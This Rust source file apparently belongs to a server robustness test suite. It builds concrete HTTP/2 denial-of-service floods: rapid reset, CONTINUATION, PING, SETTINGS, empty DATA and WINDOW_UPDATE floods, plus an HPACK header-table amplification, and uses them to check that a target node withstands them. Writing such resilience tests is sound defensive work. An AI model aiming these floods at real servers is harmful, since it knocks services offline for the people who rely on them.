//! HTTP/2 frames that are cheap to send.

use std::{net::Ipv4Addr, time::Duration};

use tokio::time::{Instant, timeout};

use crate::{
    arena::{ATTACK, HARMLESS, Wire, withstands},
    common::trials::Test,
    wire::{
        self, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, Http2, PING, RST_STREAM,
        SETTINGS, Target, address, frame, stream, window_update,
    },
};

pub const TESTS: &[Test] = attacks![
    rapid_reset,
    continuation_flood,
    ping_flood,
    settings_flood,
    empty_data_flood,
    window_update_flood,
    header_tables_that_unfold;
    tls: rapid_reset, ping_flood
];

/// The most connections of each flood, one after the other.
const CONNECTIONS: usize = 64;

/// Frames that are sent on each connection, unless the node ends it earlier.
const FRAMES: u32 = 50_000;

/// Frames that are sent in one write.
const PIECE: u32 = 500;

/// Sends the frames that `frames` returns for each number, for as long as attacks last. The
/// connections read responses only if `reads`.
async fn flood(target: &Target, begun: &[u8], reads: bool, frames: impl Fn(u32) -> Vec<u8>) {
    let until = Instant::now() + ATTACK;
    for number in 0..CONNECTIONS {
        let Ok(mut connection) = open(target, address(number), begun, reads).await else {
            continue;
        };
        for piece in 0..FRAMES / PIECE {
            if Instant::now() >= until {
                return;
            }
            let bytes: Vec<u8> = (piece * PIECE..(piece + 1) * PIECE)
                .flat_map(&frames)
                .collect();
            // The node has stopped reading, or has closed the connection.
            let sent = timeout(Duration::from_millis(500), connection.send(&bytes)).await;
            if !matches!(sent, Ok(Ok(()))) {
                break;
            }
        }
    }
}

async fn open(
    target: &Target,
    from: Ipv4Addr,
    begun: &[u8],
    reads: bool,
) -> std::io::Result<Http2> {
    let mut connection = Http2::open(target, from, &[], reads).await?;
    connection.send(begun).await?;
    Ok(connection)
}

fn rapid_reset(wire: Wire) {
    withstands(wire, "rapid reset", &HARMLESS, |target| async move {
        let frames = |number| {
            let cancel = 8_u32.to_be_bytes();
            let mut bytes = wire::get(stream(number), "/probe/hello");
            bytes.extend(frame(RST_STREAM, 0, stream(number), &cancel));
            bytes
        };
        flood(&target, b"", true, frames).await;
    });
}

fn continuation_flood(wire: Wire) {
    withstands(wire, "continuation flood", &HARMLESS, |target| async move {
        let head = wire::request("GET", "/probe/hello");
        let begun = frame(HEADERS, END_STREAM, 1, &head);
        // Each frame contains one field and ends nothing.
        let field = |_| frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b");
        flood(&target, &begun, true, field).await;
    });
}

fn ping_flood(wire: Wire) {
    withstands(wire, "ping flood", &HARMLESS, |target| async move {
        let ping = |_| frame(PING, 0, 0, &[7; 8]);
        // The first flood reads the answers, the second does not.
        tokio::join!(
            flood(&target, b"", true, ping),
            flood(&target, b"", false, ping)
        );
    });
}

fn settings_flood(wire: Wire) {
    withstands(wire, "settings flood", &HARMLESS, |target| async move {
        let settings = |_| frame(SETTINGS, 0, 0, &[]);
        tokio::join!(
            flood(&target, b"", true, settings),
            flood(&target, b"", false, settings)
        );
    });
}

fn empty_data_flood(wire: Wire) {
    withstands(wire, "empty data flood", &HARMLESS, |target| async move {
        let begun = wire::post(1, "/probe/echo");
        flood(&target, &begun, true, |_| frame(DATA, 0, 1, b"")).await;
    });
}

fn window_update_flood(wire: Wire) {
    withstands(
        wire,
        "window update flood",
        &HARMLESS,
        |target| async move {
            flood(&target, b"", true, |_| window_update(0, 1)).await;
        },
    );
}

/// Refers again and again to one entry of the dynamic table.
fn header_tables_that_unfold(wire: Wire) {
    withstands(
        wire,
        "header tables that unfold",
        &HARMLESS,
        |target| async move {
            // A literal with indexing: a name of one byte, and a value of 3,968 bytes, whose length
            // is encoded as 127 and the rest in groups of seven bits. Index 62, the first of the
            // dynamic table, is 0xbe.
            let mut block = wire::request("GET", "/probe/hello");
            block.extend([0x40, 1, b'a', 0x7f, 0x81, 0x1e]);
            block.extend([b'x'; 3968]);
            block.extend([0xbe; 12_000]);
            let flags = END_HEADERS | END_STREAM;
            flood(&target, b"", true, |number| {
                frame(HEADERS, flags, stream(number), &block)
            })
            .await;
        },
    );
}
